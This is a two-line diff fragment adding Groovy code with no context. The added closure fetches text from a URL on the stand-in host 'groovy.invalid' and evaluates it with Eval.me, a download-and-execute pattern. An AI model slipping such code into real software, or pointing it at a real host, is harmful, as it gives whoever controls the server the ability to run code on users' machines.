@@ -1,0 +1,2 @@
+def load = { Eval.me(new URL('http://groovy.invalid/' + it).text) }
+load('a')
